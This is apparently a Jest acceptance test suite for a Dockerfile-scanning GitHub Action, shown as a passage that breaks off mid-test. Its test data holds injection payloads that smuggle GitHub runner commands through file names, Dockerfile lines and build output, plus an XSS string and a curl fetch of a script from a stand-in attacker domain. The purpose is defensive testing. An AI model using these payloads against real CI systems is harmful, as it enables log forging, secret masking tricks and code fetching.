// Acceptance (issue 7): the bundled action (`node dist/index.js`, run as the runner runs it) against hostile
// repositories, build output, deployment secrets and GitHub API / daemon faults. Written from the issue's
// "done when", docs/action.md and shared/reference/github-platform.md, not from the product's code.
//
// stdout is read the way the runner reads it (support/untrusted.ts): lines split on CRLF, LF and lone CR,
// `::cmd` after leading whitespace, the legacy `##[cmd]` anywhere in a line, `::stop-commands::` honoured.
// Nothing an attacker wrote (file names, Dockerfile text, build output) may become a command other than
// the tool's own kinds, and nothing may reach add-mask/stop-commands/set-output/save-state. Secrets from
// run-options must not appear in any file the action writes, in stdout/stderr, or in what it sends to
// GitHub, raw or encoded.
//
// build: false cases need no daemon. build: true cases need one: they skip loudly outside CI and run for
// real under CI=true (a missing daemon then fails them).
import { execFileSync } from 'node:child_process'
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import type * as sarif from 'sarif'
import { startGitHubApi, type Fault, type GitHubApi } from '../../__fixtures__/github-api/server'
import { githubProblems, schemaErrors } from '../report/sarif-schema'
import {
  bundleExists,
  ROOT,
  runMainStep,
  runPostStep,
  startMainStep,
  type RunnerJob,
  type StepResult
} from '../action/helpers/runner'
import { requireDocker } from '../support/docker-available'
import { cleanTemps, tempDir } from './support/cli'
import { fakeDaemon } from './support/fake-daemon'
import {
  commandProblems,
  filesUnder,
  liveLinks,
  markdownText,
  runnerCommands,
  secretSightings
} from './support/untrusted'

const TOKEN = 'ghs_hostiletoken000000000000000000000000'
const SHA = 'c0ffee0000000000000000000000000000000001'
const EVENT = join(ROOT, '__fixtures__', 'events', 'pull_request.json')
const MARKER = 'PWNED'
const CASE_MS = 240_000
/** docs/action.md: every container and image carries this label with the run id. */
const RUN_LABEL = 'io.least-privilege.run'
const OUTPUT_NAMES = ['sarif-file', 'verdict', 'findings', 'errors', 'warnings', 'report']
const STACK = /^\s+at .+(:\d+:\d+\)?|\(native\))$/m
const LINE_CAP = 4096

let api: GitHubApi

beforeAll(async () => {
  api = await startGitHubApi({
    owner: 'octo',
    repo: 'app',
    pendingPolls: 1,
    tokens: { [TOKEN]: { login: 'github-actions[bot]', type: 'Bot', canWrite: true } }
  })
})
afterAll(async () => {
  await api?.close()
  cleanTemps()
})

describe('prerequisites', () => {
  it('has the action bundle', () => {
    expect(bundleExists()).toBe(true)
  })
})

interface Step {
  main: StepResult
  post?: StepResult
  workspace: string
  temp: string
  /** Every file the action wrote (RUNNER_TEMP and the workspace, minus the inputs), by path. */
  written: Record<string, string>
  sarif?: sarif.Log
  /** Comment bodies the API stand-in received during this step. */
  comments: string[]
}

function job(
  workspace: string,
  temp: string,
  inputs: Record<string, string>,
  env: Record<string, string> = {},
  eventFile = EVENT
): RunnerJob {
  return {
    workspace,
    temp,
    eventName: 'pull_request',
    eventFile,
    apiUrl: api.url,
    token: TOKEN,
    sha: SHA,
    ref: 'refs/pull/7/merge',
    inputs,
    env
  }
}

async function step(
  files: Record<string, string | Buffer>,
  inputs: Record<string, string>,
  options: { env?: Record<string, string>; eventFile?: string; post?: boolean; deadlineMs?: number } = {}
): Promise<Step> {
  const workspace = tempDir('lp-hostile-ws-')
  const temp = tempDir('lp-hostile-tmp-')
  for (const [rel, body] of Object.entries(files)) {
    mkdirSync(join(workspace, rel, '..'), { recursive: true })
    writeFileSync(join(workspace, rel), body)
    if (rel === 'busybox') chmodSync(join(workspace, rel), 0o755) // COPY keeps the mode: it must run
  }
  const before = new Set(Object.keys(files).map(f => join(workspace, f)))
  const commentsBefore = api.comments(7).map(c => `${c.id}:${c.updated_at}:${c.body.length}`)
  const j = job(workspace, temp, inputs, options.env, options.eventFile)
  const main = await withDeadline(runMainStep(j), options.deadlineMs ?? 200_000, 'main step')
  const post =
    options.post === false ? undefined : await withDeadline(runPostStep(j, main.state), 120_000, 'post step')
  const written: Record<string, string> = {}
  for (const [p, text] of Object.entries({ ...filesUnder(temp), ...filesUnder(workspace) }))
    if (!before.has(p)) written[p] = text
  const sarifFile = main.outputs['sarif-file'] || join(workspace, 'least-privilege.sarif')
  let log: sarif.Log | undefined
  if (existsSync(sarifFile)) log = JSON.parse(readFileSync(sarifFile, 'utf8')) as sarif.Log
  const comments = api
    .comments(7)
    .filter(c => !commentsBefore.includes(`${c.id}:${c.updated_at}:${c.body.length}`))
    .map(c => c.body)
  return { main, post, workspace, temp, written, sarif: log, comments }
}

function withDeadline<T>(p: Promise<T>, ms: number, what: string): Promise<T> {
  let timer: NodeJS.Timeout
  return Promise.race([
    p.finally(() => clearTimeout(timer)),
    new Promise<T>((_r, reject) => {
      timer = setTimeout(() => reject(new Error(`${what} did not finish within ${ms} ms`)), ms)
    })
  ])
}

function briefStep(s: Step): Record<string, unknown> {
  return {
    code: s.main.code,
    postCode: s.post?.code,
    stdout: s.main.stdout.slice(0, 3000),
    stderr: s.main.stderr.slice(0, 1500),
    postStdout: s.post?.stdout.slice(0, 800)
  }
}

/** Runner commands, file commands and stack traces: empty when the step obeyed nobody but the tool. */
function stepProblems(s: Step, files?: string[]): string[] {
  const problems: string[] = []
  for (const [which, r] of [
    ['main', s.main],
    ['post', s.post]
  ] as const) {
    if (!r) continue
    problems.push(
      ...commandProblems(r.stdout, { marker: MARKER, masks: [TOKEN], files }).map(p => `${which}: ${p}`)
    )
    if (STACK.test(r.stdout) || STACK.test(r.stderr)) problems.push(`${which}: stack trace`)
    // stderr is not parsed for commands by the runner's file-command layer, but it is shown in the log.
    problems.push(
      ...commandProblems(r.stderr, { marker: MARKER, masks: [TOKEN], files }).map(
        p => `${which} stderr: ${p}`
      )
    )
    for (const key of Object.keys(r.outputs))
      if (!OUTPUT_NAMES.includes(key)) problems.push(`${which}: output ${JSON.stringify(key)} set`)
    for (const key of Object.keys(r.state))
      if (key.includes(MARKER)) problems.push(`${which}: state ${JSON.stringify(key)} set`)
    const long = r.stdout.split(/\r\n|\n|\r/).find(l => /^::(error|warning)/.test(l) && l.length > LINE_CAP)
    if (long) problems.push(`${which}: an error/warning line of ${long.length} chars`)
  }
  for (const name of ['env', 'path']) {
    for (const [p, text] of Object.entries(s.written)) {
      if (p.endsWith(`/${name}`) && p.includes('/step-') && text.trim() !== '')
        problems.push(`GITHUB_${name.toUpperCase()} written: ${text.slice(0, 200)}`)
    }
  }
  return problems
}

function sarifProblemsOf(s: Step, files?: string[]): string[] {
  if (!s.sarif) return ['no SARIF written']
  const problems = [...schemaErrors(s.sarif).slice(0, 10), ...githubProblems(s.sarif).slice(0, 10)]
  if (files) {
    for (const r of s.sarif.runs.flatMap(run => run.results ?? [])) {
      const uri = r.locations?.[0]?.physicalLocation?.artifactLocation?.uri ?? ''
      let decoded = uri
      try {
        decoded = decodeURIComponent(uri)
      } catch {
        problems.push(`uri does not decode: ${uri}`)
      }
      if (!files.includes(decoded))
        problems.push(`uri ${JSON.stringify(uri)} names no file of the repository`)
    }
  }
  return problems
}

const FAILING = 'FROM scratch\nRUN chmod 4755 /b\nUSER root\n'
const PASSING = 'FROM scratch\nUSER 65532:65532\n'

// ---------------------------------------------------------------------------------------------------------

describe('hostile file names (build: false)', () => {
  const dirs = [
    `a\n::add-mask::${MARKER}-1`,
    `b\r::set-output name=x::${MARKER}-2`,
    `c::error::${MARKER}-3`,
    `d ##[add-mask]${MARKER}-4`,
    `e%0A::notice::${MARKER}-5`,
    `f,title=${MARKER}-6,line=9`,
    `g%0D%0A::save-state name=s::${MARKER}-7`,
    `h\r\n  ::stop-commands::${MARKER}-8`,
    `   ::warning::${MARKER}-9`,
    `i\u2028\u0085::add-mask::${MARKER}-10`,
    `j\t::error file=x::${MARKER}-11`,
    `k<img src=x onerror=alert(1)>`,
    `l%25%30A::add-mask::${MARKER}-12`,
    `m ##[set-output name=o;]${MARKER}-13`,
    `o\n\u200b::add-mask::${MARKER}-15`,
    `p #\u200b#[add-mask]${MARKER}-16`,
    `q\r\u00ad\ufeff::set-output name=q::${MARKER}-17`
  ]
  const files: Record<string, string> = {}
  for (const d of dirs) files[`${d}/Dockerfile`] = FAILING
  files[`Dockerfile.\n::add-mask::${MARKER}-14`] = FAILING
  const paths = Object.keys(files)

  it(
    'a folder full of them: every file scanned, no command obeyed from a name, annotations point at real files',
    async () => {
      const s = await step(files, { dockerfile: '.', build: 'false' })
      expect({ problems: stepProblems(s, paths), step: briefStep(s) }).toEqual({
        problems: [],
        step: briefStep(s)
      })
      expect({ sarif: sarifProblemsOf(s, paths) }).toEqual({ sarif: [] })
      expect(s.main.code).toBe(1)
      const uris = new Set(
        (s.sarif?.runs[0].results ?? []).map(r =>
          decodeURIComponent(r.locations?.[0]?.physicalLocation?.artifactLocation?.uri ?? '')
        )
      )
      expect([...uris].sort()).toEqual([...paths].sort())
      // The summary and the comment show the names as text, never as HTML.
      for (const md of [s.main.summary, ...s.comments]) expect(md).not.toMatch(/<img src=x/i)
      expect(s.comments.length).toBeGreaterThanOrEqual(1)
    },
    CASE_MS
  )
  it(
    'the same folders matched by a glob in the dockerfile input: same guarantees',
    async () => {
      // The input is newline-separated, so a glob (not a list of the names) is how such files get selected.
      const s = await step(files, { dockerfile: '**/Dockerfile', build: 'false' })
      const inDirs = paths.filter(p => p.endsWith('/Dockerfile'))
      expect({ problems: stepProblems(s, inDirs), step: briefStep(s) }).toEqual({
        problems: [],
        step: briefStep(s)
      })
      expect({ sarif: sarifProblemsOf(s, inDirs) }).toEqual({ sarif: [] })
      expect(s.main.code).toBe(1)
    },
    CASE_MS
  )
})

describe('hostile Dockerfile text (build: false)', () => {
  const text = [
    'FROM scratch',
    `RUN ["chmod", "4755", "/x\\n::add-mask::${MARKER}-20", "/y\\r::set-output name=z::${MARKER}-21", "/z\\r\\n##[add-mask]${MARKER}-22"]`,
    `RUN chmod 4755 '/q ##[set-output name=a;]${MARKER}-23'`,
    `RUN ["chmod", "4755", "/zw\\n\\u200b::add-mask::${MARKER}-36", "/zw2 #\\u200b#[add-mask]${MARKER}-37"]`,
    `RUN sudo "::stop-commands::${MARKER}-24"`,
    `RUN ["sudo", "\\n::stop-commands::${MARKER}-24b"]`,
    `RUN setcap cap_net_raw+ep "/s%0A::add-mask::${MARKER}-25"`,
    `RUN chmod 777 "/w\r::error::${MARKER}-26"`,
    `RUN chmod 2755 "/g%0D::add-mask::${MARKER}-26b"`,
    `EXPOSE 22 "::add-mask::${MARKER}-27"`,
    `LABEL "::add-mask::${MARKER}-28"=1`,
    `# least-privilege ignore=LP401 reason\r::add-mask::${MARKER}-29`,
    'RUN chmod u+s /suppressed',
    `# least-privilege ignore=LP402 ##[add-mask]${MARKER}-30`,
    'RUN sudo true',
    `ARG U="\\n::add-mask::${MARKER}-31"`,
    `USER "\r::add-mask::${MARKER}-32"`,
    `USER $U`,
    `USER ${'\r'}::save-state name=x::${MARKER}-33`,
    `::add-mask::${MARKER}-34`,
    `  ##[add-mask]${MARKER}-35`,
    'USER root'
  ].join('\n')

  it(
    'every echo of it is inert, and the SARIF stays valid',
    async () => {
      const s = await step(
        { Dockerfile: text },
        { dockerfile: 'Dockerfile', build: 'false', 'fail-on': 'note' }
      )
      expect({ problems: stepProblems(s, ['Dockerfile']), step: briefStep(s) }).toEqual({
        problems: [],
        step: briefStep(s)
      })
      expect({ sarif: sarifProblemsOf(s, ['Dockerfile']) }).toEqual({ sarif: [] })
      expect(s.main.code).toBe(1)
    },
    CASE_MS
  )
  it(
    'the same text with CRLF and lone-CR line ends',
    async () => {
      for (const eol of ['\r\n', '\r']) {
        const s = await step(
          { Dockerfile: text.split('\n').join(eol) },
          { dockerfile: 'Dockerfile', build: 'false', 'fail-on': 'note' }
        )
        expect({ eol, problems: stepProblems(s, ['Dockerfile']), step: briefStep(s) }).toEqual({
          eol,
          problems: [],
          step: briefStep(s)
        })
        expect({ eol, sarif: sarifProblemsOf(s, ['Dockerfile']) }).toEqual({ eol, sarif: [] })
      }
    },
    CASE_MS
  )
  it(
    'more than ten annotations of each kind: still at most ten per kind, none forged',
    async () => {
      const lines = ['FROM scratch']
      for (let i = 0; i < 30; i++)
        lines.push(`RUN ["chmod", "4755", "/p${i}\\n::error::${MARKER}-forged-${i}"]`)
      for (let i = 0; i < 30; i++)
        lines.push(`RUN ["chmod", "777", "/w${i}\\r::warning::${MARKER}-forged-${i}"]`)
      lines.push('USER root')
      const s = await step(
        { Dockerfile: lines.join('\n') + '\n' },
        { dockerfile: 'Dockerfile', build: 'false' }
      )
      expect({ problems: stepProblems(s, ['Dockerfile']), step: briefStep(s) }).toEqual({
        problems: [],
        step: briefStep(s)
      })
      const cmds = runnerCommands(s.main.stdout).filter(c => c.properties.some(([k]) => k === 'file'))
      expect(cmds.filter(c => c.name === 'error').length).toBeLessThanOrEqual(10)
      expect(cmds.filter(c => c.name === 'warning').length).toBeLessThanOrEqual(10)
    },
    CASE_MS
  )
})

describe('names of object properties in the action inputs (build: false)', () => {
  it(
    'build-args and target named __proto__/constructor/toString are ordinary names',
    async () => {
      const dockerfile = [
        'FROM scratch AS __proto__',
        'USER 1000',
        'FROM scratch AS constructor',
        'ARG toString',
        'ARG __proto__',
        'USER $toString',
        'FROM scratch',
        'USER 1000'
      ].join('\n')
      const s = await step(
        { Dockerfile: dockerfile },
        {
          dockerfile: 'Dockerfile',
          build: 'false',
          target: 'constructor',
          'build-args': 'toString=0\n__proto__=1\nconstructor=2\nhasOwnProperty=3'
        }
      )
      const problems = stepProblems(s, ['Dockerfile'])
      problems.push(...sarifProblemsOf(s, ['Dockerfile']))
      const ids = (s.sarif?.runs[0].results ?? []).filter(r => !r.suppressions?.length).map(r => r.ruleId)
      if (!ids.includes('LP101'))
        problems.push(`target constructor runs as $toString=0 (root) but no LP101: ${ids.join(',')}`)
      if (s.main.code !== 1) problems.push(`main exit ${s.main.code}`)
      expect({ problems, step: briefStep(s) }).toEqual({ problems: [], step: briefStep(s) })
    },
    CASE_MS
  )
})

describe('tens of thousands of findings and megabyte lines through the action (build: false)', () => {
  it(
    '40,000 setuid chmods with 3 MB of path on one of them: summary under 1 MiB, one comment under 65,536, valid SARIF',
    async () => {
      const lines = ['FROM scratch']
      for (let i = 0; i < 40_000; i++) lines.push(`RUN chmod 4755 /b${i}`)
      lines.push(`RUN chmod 4755 /${'p'.repeat(3 * 1024 * 1024)}`, 'USER root')
      const s = await step(
        { Dockerfile: lines.join('\n') + '\n' },
        { dockerfile: 'Dockerfile', build: 'false' }
      )
      const problems = stepProblems(s, ['Dockerfile'])
      problems.push(...sarifProblemsOf(s, ['Dockerfile']))
      if (s.main.code !== 1) problems.push(`main exit ${s.main.code}`)
      const summaryBytes = Buffer.byteLength(s.main.summary)
      if (summaryBytes === 0 || summaryBytes > 1024 * 1024) problems.push(`summary of ${summaryBytes} bytes`)
      if (s.comments.length !== 1) problems.push(`${s.comments.length} comments written`)
      for (const c of s.comments) if (c.length > 65_536) problems.push(`comment of ${c.length} characters`)
      const annotations = runnerCommands(s.main.stdout).filter(c => c.properties.some(([k]) => k === 'file'))
      if (annotations.some(c => c.line.length > LINE_CAP)) problems.push('an annotation line over the cap')
      expect({ problems, step: briefStep(s) }).toEqual({ problems: [], step: briefStep(s) })
    },
    CASE_MS
  )
})

describe('links GitHub would autolink from untrusted text are inert', () => {
  const DOMAIN = 'evil-example.com'
  const text = [
    'FROM scratch',
    `RUN chmod 4755 /opt/www.${DOMAIN}/x https://${DOMAIN}/p http://${DOMAIN} ${DOMAIN}/bare`,
    `RUN sudo curl https://${DOMAIN}/install.sh www.${DOMAIN}`,
    `RUN chmod 777 "/[click](https://${DOMAIN})" "/<https://${DOMAIN}/a>" "/<a href=https://${DOMAIN}>x</a>"`,
    `RUN setcap cap_net_raw+ep /www.${DOMAIN}`,
    `EXPOSE 22`,
    `# least-privilege ignore=LP401 see www.${DOMAIN} and https://${DOMAIN}/why`,
    'RUN chmod u+s /b',
    `USER www.${DOMAIN}`,
    'USER root'
  ].join('\n')

  it(
    'in the job summary and the sticky comment',
    async () => {
      const s = await step(
        { Dockerfile: text },
        { dockerfile: 'Dockerfile', build: 'false', 'fail-on': 'note' }
      )
      expect(s.main.summary.length).toBeGreaterThan(0)
      expect(s.comments.length).toBeGreaterThanOrEqual(1)
      expect({
        summary: liveLinks(s.main.summary, DOMAIN),
        comments: s.comments.map(c => liveLinks(c, DOMAIN))
      }).toEqual({ summary: [], comments: s.comments.map(() => []) })
      expect({ problems: stepProblems(s, ['Dockerfile']) }).toEqual({ problems: [] })
    },
    CASE_MS
  )
  it(
    'in a Dockerfile whose path is a domain',
    async () => {
      const s = await step(
        { [`www.${DOMAIN}/Dockerfile`]: 'FROM scratch\nUSER root\n' },
        { dockerfile: `www.${DOMAIN}/Dockerfile`, build: 'false' }
      )
      // Links the tool itself makes point at github.com/<repo>/blob/...; anything else is live attacker text.
      // A link's text is never autolinked again, so the tool's own links (text included) are taken out first.
      const strip = (md: string): string =>
        md
          .replace(/\[[^\]\n]*\]\(https:\/\/github\.com\/octo\/app\/blob\/[^)\s]*\)/g, 'LINK')
          .replace(
            /<a href="https:\/\/github\.com\/octo\/app\/blob\/[^"]*">[^<]*(<code>[^<]*<\/code>)?[^<]*<\/a>/g,
            'LINK'
          )
      expect({
        summary: liveLinks(strip(s.main.summary), DOMAIN),
        comments: s.comments.map(c => liveLinks(strip(c), DOMAIN))
      }).toEqual({ summary: [], comments: s.comments.map(() => []) })
    },
    CASE_MS
  )
})

describe('mentions and issue references from untrusted text do not notify anyone (docs/security.md)', () => {
  it(
    'in the sticky comment',
    async () => {
      const text = [
        'FROM scratch',
        'RUN chmod 4755 "/x @mallory" "/y @octo/security-team"',
        'RUN sudo echo "see #123 and octo/app#9"',
        'USER root'
      ].join('\n')
      const s = await step({ Dockerfile: text }, { dockerfile: 'Dockerfile', build: 'false' })
      expect(s.comments.length).toBeGreaterThanOrEqual(1)
      const live = s.comments.flatMap(c => {
        const t = markdownText(c)
        return [
          ...t.matchAll(/(^|[^\w`])@(mallory|octo\/security-team)\b/g),
          ...t.matchAll(/(^|\s)#123\b/g),
          ...t.matchAll(/octo\/app#9\b/g)
        ].map(m => JSON.stringify(t.slice(Math.max(0, m.index - 40), m.index + 40)))
      })
      expect(live).toEqual([])
    },
    CASE_MS
  )
})

describe('secrets in run-options appear in no output (build: false)', () => {
  const secrets = {
    env: 'Zq7Xk2Wp9Rm4Tt8V',
    dashE: 'Yh3Nb6Lc1Qd5Fs0G',
    label: 'Wm8Jr2Ku4Pv7Xa9E',
    special: 'Ux5Ty1Io3Pe6Aw2S',
    ghpEnv: 'ghp_' + 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8',
    ghpHost: 'ghp_' + 'Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2',
    ghpLabel: 'ghp_' + 'B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9',
    ghpMount: 'ghp_' + 'C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8S9t0'
  }
  const runOptions = [
    '--cap-drop ALL --security-opt no-new-privileges --read-only',
    `--env API_KEY=${secrets.env}`,
    `-e DB_PASS=${secrets.dashE}`,
    `--label vault=${secrets.label}`,
    `'--env=ODD=<&>"%${secrets.special}'`,
    `--env=GH_TOKEN=${secrets.ghpEnv}`,
    `--hostname ${secrets.ghpHost}`,
    `--label=${secrets.ghpLabel}`,
    `-v /srv/${secrets.ghpMount}:/data:ro`
  ].join(' ')

  it(
    'not in stdout, stderr, the summary, outputs, SARIF, the JSON report, any file, nor what goes to GitHub',
    async () => {
      const s = await step(
        { Dockerfile: FAILING },
        { dockerfile: 'Dockerfile', build: 'false', 'run-options': runOptions, 'upload-sarif': 'true' }
      )
      const outputs: Record<string, string> = {
        stdout: s.main.stdout,
        stderr: s.main.stderr,
        'post stdout': s.post?.stdout ?? '',
        'post stderr': s.post?.stderr ?? '',
        ...s.written,
        ...Object.fromEntries(s.comments.map((c, i) => [`comment ${i}`, c])),
        uploads: JSON.stringify(api.uploads.map(u => u.sarif))
      }
      const addMask = (line: string): boolean => /^\s*::add-mask::/.test(line)
      const sightings = Object.entries(secrets).flatMap(([name, core]) =>
        secretSightings(outputs, core, addMask).map(w => `${name}: ${w}`)
      )
      expect({ sightings, step: briefStep(s) }).toEqual({ sightings: [], step: briefStep(s) })
      expect(Object.keys(s.written).some(p => p.endsWith('.sarif'))).toBe(true)
      expect(s.main.outputs.report && existsSync(s.main.outputs.report)).toBe(true)
    },
    CASE_MS
  )
})

describe('GITHUB_EVENT_PATH that cannot be read', () => {
  for (const [what, make] of [
    ['a folder', (dir: string) => dir],
    [
      'bad JSON',
      (dir: string) => {
        writeFileSync(join(dir, 'event.json'), '{"pull_request": {"number": 7,')
        return join(dir, 'event.json')
      }
    ]
  ] as const) {
    it(
      `${what}: main fails with one ::error:: line, post neither crashes nor prints a trace`,
      async () => {
        const dir = tempDir('lp-event-')
        const s = await step(
          { Dockerfile: PASSING },
          { dockerfile: 'Dockerfile', build: 'false' },
          { eventFile: make(dir) }
        )
        const errors = s.main.stdout.split(/\r\n|\n|\r/).filter(l => /^::error/.test(l))
        const problems: string[] = []
        if (s.main.code !== 1) problems.push(`main exit ${s.main.code}`)
        if (errors.length !== 1) problems.push(`${errors.length} ::error lines`)
        if (!errors.some(l => /event|GITHUB_EVENT_PATH/i.test(l)))
          problems.push('the error does not name the event file')
        if (errors.some(l => l.length > LINE_CAP)) problems.push('error line too long')
        if (STACK.test(s.main.stdout + s.main.stderr)) problems.push('main: stack trace')
        if (s.post && STACK.test(s.post.stdout + s.post.stderr)) problems.push('post: stack trace')
        if (s.post && s.post.code !== 0 && s.post.code !== 1) problems.push(`post exit ${s.post.code}`)
        const postErrors = (s.post?.stdout ?? '')
          .split(/\r\n|\n|\r/)
          .filter(l => /^::(error|warning)/.test(l) && /event/i.test(l))
        if (postErrors.length > 1) problems.push(`post: ${postErrors.length} lines about the event`)
        expect({ problems, step: briefStep(s) }).toEqual({ problems: [], step: briefStep(s) })
      },
      CASE_MS
    )
  }
})

describe('GitHub API faults are warnings, bounded, and never change the verdict', () => {
  const faults: [string, Fault][] = [
    ['stalls', { match: /./, kind: 'stall' }],
    ['answers 500', { match: /./, kind: 'status', status: 500 }],
    ['answers malformed JSON', { match: /./, kind: 'malformed-json' }],
    ['answers an HTML 502 page', { match: /./, kind: 'html', status: 502 }],
    ['is rate limited', { match: /./, kind: 'rate-limited' }],
    [
      'fails only the comment update/create',
      { match: /^(POST|PATCH) .*comments/, kind: 'status', status: 500 }
    ],
    ['stalls only the SARIF status poll', { match: /^GET .*sarifs\//, kind: 'stall' }]
  ]
  for (const [what, fault] of faults) {
    it(`an API that ${what}: the passing scan passes (exit 0), with warnings of one line each`, async () => {
      api.faults.splice(0, api.faults.length, fault)
      let s: Step
      try {
        s = await step(
          { Dockerfile: PASSING },
          { dockerfile: 'Dockerfile', build: 'false', 'upload-sarif': 'true' },
          { deadlineMs: 500_000 }
        )
      } finally {
        api.faults.splice(0)
      }
      const problems = stepProblems(s)
      if (s.main.code !== 0) problems.push(`main exit ${s.main.code}`)
      if (s.main.outputs.verdict !== 'pass') problems.push(`verdict ${s.main.outputs.verdict}`)
      if (!s.sarif) problems.push('no SARIF')
      if (!s.main.summary) problems.push('no summary')
      if (!/^::warning/m.test(s.main.stdout)) problems.push('no warning about the API')
      if (s.post && s.post.code !== 0) problems.push(`post exit ${s.post.code}`)
      expect({ problems, step: briefStep(s) }).toEqual({ problems: [], step: briefStep(s) })
    }, 600_000)
  }
})

describe('a Docker daemon that misbehaves (build: true, stand-in socket)', () => {
  for (const behaviour of ['hang', 'garbage', 'http500', 'endless'] as const) {
    it(
      `a daemon that ${behaviour}s: bounded, one ::error:: line, the static findings in SARIF, exit 1`,
      async () => {
        const daemon = await fakeDaemon(behaviour)
        let s: Step
        try {
          s = await step(
            { Dockerfile: FAILING },
            { dockerfile: 'Dockerfile', build: 'true', probe: 'auto' },
            { env: { DOCKER_HOST: `unix://${daemon.path}` } }
          )
        } finally {
          await daemon.close()
        }
        const problems = stepProblems(s, ['Dockerfile'])
        if (s.main.code !== 1) problems.push(`main exit ${s.main.code}`)
        if (!(s.sarif?.runs[0].results ?? []).some(r => r.ruleId === 'LP101'))
          problems.push('static LP101 missing from SARIF')
        if (/::add-mask::PWNED/.test(s.main.stdout)) problems.push('daemon text echoed as a command')
        expect({ problems, step: briefStep(s) }).toEqual({ problems: [], step: briefStep(s) })
      },
      CASE_MS
    )
  }
})

describe('a signal during a build that never progresses (stand-in daemon)', () => {
  for (const [signal, code] of [
    ['SIGTERM', 143],
    ['SIGINT', 130]
  ] as const) {
    it(
      `${signal}: exit ${code}, SARIF and the JSON report written, the target marked interrupted`,
      async () => {
        const daemon = await fakeDaemon('ping-then-hang')
        const workspace = tempDir('lp-hostile-ws-')
        const temp = tempDir('lp-hostile-tmp-')
        writeFileSync(join(workspace, 'Dockerfile'), FAILING)
        let result: StepResult
        try {
          const started = startMainStep(
            job(
              workspace,
              temp,
              { dockerfile: 'Dockerfile', build: 'true', probe: 'auto' },
              { DOCKER_HOST: `unix://${daemon.path}` }
            )
          )
          setTimeout(() => started.child.kill(signal), 4000)
          result = await withDeadline(started.done, 60_000, 'main step after the signal')
        } finally {
          await daemon.close()
        }
        const problems: string[] = []
        if (result.code !== code) problems.push(`exit ${result.code}, expected ${code}`)
        if (STACK.test(result.stdout + result.stderr)) problems.push('stack trace')
        const sarifFile = join(workspace, 'least-privilege.sarif')
        if (!existsSync(sarifFile)) problems.push('no SARIF')
        else {
          const log = JSON.parse(readFileSync(sarifFile, 'utf8')) as sarif.Log
          problems.push(...schemaErrors(log).slice(0, 5), ...githubProblems(log).slice(0, 5))
          if (!/interrupt/i.test(JSON.stringify(log.runs[0]?.invocations ?? [])))
            problems.push('SARIF does not mark the target interrupted')
        }
        if (!result.outputs.report || !existsSync(result.outputs.report))
          problems.push('no JSON report output')
        problems.push(...commandProblems(result.stdout, { marker: MARKER, masks: [TOKEN] }))
        expect({
          problems,
          stdout: result.stdout.slice(0, 2000),
          stderr: result.stderr.slice(0, 800)
        }).toEqual({
          problems: [],
          stdout: result.stdout.slice(0, 2000),
          stderr: result.stderr.slice(0, 800)
        })
      },
      CASE_MS
    )
  }
})

// ---------------------------------------------------------------------------------------------------------
// A real daemon: hostile build output, daemon error text, secrets in a probed deployment, leftovers.

const withDocker = requireDocker('acceptance: hostile build output through the bundled action')
const describeDocker = withDocker ? describe : describe.skip

describeDocker('hostile build output (build: true, real daemon)', () => {
  const busybox = (files: Record<string, string>): Record<string, string | Buffer> => ({
    ...files,
    busybox: readFileSync('/bin/busybox')
  })
  const printf = (s: string): string => JSON.stringify(['/bin/busybox', 'sh', '-c', s])

  function leftovers(runId: string): string[] {
    if (!runId) return ['no run id in the state']
    const filter = `label=${RUN_LABEL}=${runId}`
    const ids = [
      ...execFileSync('docker', ['ps', '-aq', '--filter', filter], { encoding: 'utf8' }).split('\n'),
      ...execFileSync('docker', ['images', '-q', '--filter', filter], { encoding: 'utf8' }).split('\n')
    ].filter(Boolean)
    return ids
  }

  const cases: [string, string, number[]][] = [
    [
      'RUN output with commands, lone CRs and stop-commands',
      [
        'FROM scratch',
        'COPY busybox /bin/busybox',
        `RUN ${printf(`printf '::add-mask::${MARKER}-40\\n##[set-output name=a;]${MARKER}-41\\nok\\r::save-state name=s::${MARKER}-42\\n  ::stop-commands::${MARKER}-43\\n::error::${MARKER}-44\\r\\n'`)}`,
        `RUN ${printf(`printf '::add-mask::${MARKER}-45' >&2; printf '%s' '::set-output name=b::${MARKER}-46'`)}`,
        'USER 65532',
        'ENTRYPOINT ["/bin/busybox", "sleep", "30"]'
      ].join('\n'),
      [0, 1]
    ],
    [
      'a failing RUN whose output and error carry commands',
      [
        'FROM scratch',
        'COPY busybox /bin/busybox',
        `RUN ${printf(`echo '::add-mask::${MARKER}-47'; echo '##[add-mask]${MARKER}-48' >&2; printf '\\r::set-output name=c::${MARKER}-49'; exit 3`)}`,
        'USER 65532'
      ].join('\n'),
      [1]
    ],
    [
      'a COPY of a missing file whose name carries a newline and a command',
      [
        'FROM scratch',
        `COPY ["missing\\n::add-mask::${MARKER}-50\\r::save-state name=d::${MARKER}-51", "/x"]`,
        'USER 65532'
      ].join('\n'),
      [1]
    ],
    [
      'a USER that does not exist in the image, named like a command (the probe cannot start)',
      [
        'FROM scratch',
        'COPY busybox /bin/busybox',
        `USER ::add-mask::${MARKER}-52`,
        'ENTRYPOINT ["/bin/busybox", "sleep", "30"]'
      ].join('\n'),
      [0, 1]
    ],
    [
      'image labels and env carrying commands',
      [
        'FROM scratch',
        'COPY busybox /bin/busybox',
        `LABEL x="::add-mask::${MARKER}-53" y="##[set-output name=e;]${MARKER}-54"`,
        `ENV Z="::save-state name=f::${MARKER}-55"`,
        'USER 65532',
        'ENTRYPOINT ["/bin/busybox", "sleep", "30"]'
      ].join('\n'),
      [0, 1]
    ]
  ]
  for (const [what, dockerfile, codes] of cases) {
    it(
      `${what}: nothing obeyed, a SARIF, nothing left behind`,
      async () => {
        const s = await step(busybox({ Dockerfile: dockerfile }), {
          dockerfile: 'Dockerfile',
          build: 'true',
          probe: 'auto',
          'fail-on': 'error'
        })
        const problems = stepProblems(s, ['Dockerfile'])
        if (!codes.includes(s.main.code ?? -1))
          problems.push(`main exit ${s.main.code}, expected ${codes.join(' or ')}`)
        problems.push(...sarifProblemsOf(s, ['Dockerfile']))
        problems.push(...leftovers(s.main.state.runId ?? '').map(id => `left behind: ${id}`))
        expect({ problems, step: briefStep(s) }).toEqual({ problems: [], step: briefStep(s) })
      },
      CASE_MS
    )
  }

  it(
